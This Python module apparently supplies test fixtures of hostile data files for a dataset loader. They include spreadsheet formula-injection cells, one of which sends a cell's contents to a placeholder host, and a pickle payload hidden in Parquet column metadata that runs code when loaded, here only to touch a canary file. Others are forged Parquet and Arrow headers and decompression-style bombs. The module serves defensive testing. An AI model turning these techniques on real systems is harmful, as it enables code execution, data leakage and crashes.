"""Tables made to harm."""

import csv
import io
import pickle
import tempfile
from pathlib import Path
from typing import Any

import pyarrow as pa
from pyarrow import parquet

CANARY = "bad-input-canary"  # a file that nobody is to make, in the folder for temporary files
FORMULAS = ('=HYPERLINK("http://e/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1")


class Opened:
    """Makes the canary when it is unpickled."""

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (f"import pathlib, tempfile; pathlib.Path(tempfile.gettempdir(), {CANARY!r}).touch()",)


def formulas() -> bytes:
    """Return a CSV, of which each answer is what a spreadsheet would run."""
    text = io.StringIO()
    rows = csv.writer(text)
    rows.writerow(["question", "answer"])
    rows.writerows([f"What is {n}?", f"{FORMULAS[n % len(FORMULAS)]} {n}"] for n in range(12))
    return text.getvalue().encode()


def wide() -> bytes:
    """Return a CSV of 100,000 columns."""
    header = ",".join(["question", "answer", *(f"c{n}" for n in range(99_998))])
    return "\n".join([header, *("," * 99_999 for _ in range(12))]).encode()


def as_parquet(table: pa.Table) -> bytes:
    """Return a table in Parquet's form."""
    file = io.BytesIO()
    parquet.write_table(table, file, compression="zstd")
    return file.getvalue()


def claiming_rows(count: int) -> bytes:
    """Return a Parquet of twelve rows that says everywhere that it has another number of them."""
    content = as_parquet(_talk(["toast"] * 12))
    length = int.from_bytes(content[-8:-4], "little")
    body, footer = content[: -8 - length], content[-8 - length : -8]
    twelve = b"\x16" + _zigzag(12)  # a 64-bit field of Thrift's compact protocol
    assert twelve in footer
    footer = footer.replace(twelve, b"\x16" + _zigzag(count))
    return body + footer + len(footer).to_bytes(4, "little") + b"PAR1"


def _zigzag(number: int) -> bytes:
    left, written = number * 2, bytearray()
    while left > 0x7F:
        written.append(left & 0x7F | 0x80)
        left >>= 7
    return bytes([*written, left])


def unfolding(*, text: int, rows: int) -> bytes:
    """Return a Parquet of a few kilobytes, in which one long text stands beside every row."""
    words = pa.array(["toast " * (text // 6)])
    notes = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), words)
    numbers = pa.array([f"{n}" for n in range(rows)])
    return as_parquet(pa.table({"question": numbers, "answer": numbers, "notes": notes}))


def pickled_types() -> bytes:
    """Return a Parquet whose column is of a type that is a pickle."""
    types = {"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": pickle.dumps(Opened())}
    talk = _talk([f"Toast {n}." for n in range(12)])
    schema = pa.schema([talk.schema.field(0), talk.schema.field(1).with_metadata(types)])
    return as_parquet(talk.cast(schema))


def arrow(*, offset: int) -> bytes:
    """Return an Arrow file whose text ends far behind the file's end."""
    file = io.BytesIO()
    with pa.ipc.new_file(file, pa.schema([("question", pa.string())])) as writer:
        writer.write_batch(pa.record_batch([pa.array(["toast"])], names=["question"]))
    honest, lying = ((0).to_bytes(4, "little") + end.to_bytes(4, "little") for end in (5, offset))
    assert honest in file.getvalue()
    return file.getvalue().replace(honest, lying)


def _talk(answers: list[str]) -> pa.Table:
    return pa.table({"question": [f"Question {n}?" for n in range(len(answers))], "answer": answers})


def canary() -> Path:
    """Return where the canary would be."""
    return Path(tempfile.gettempdir(), CANARY)
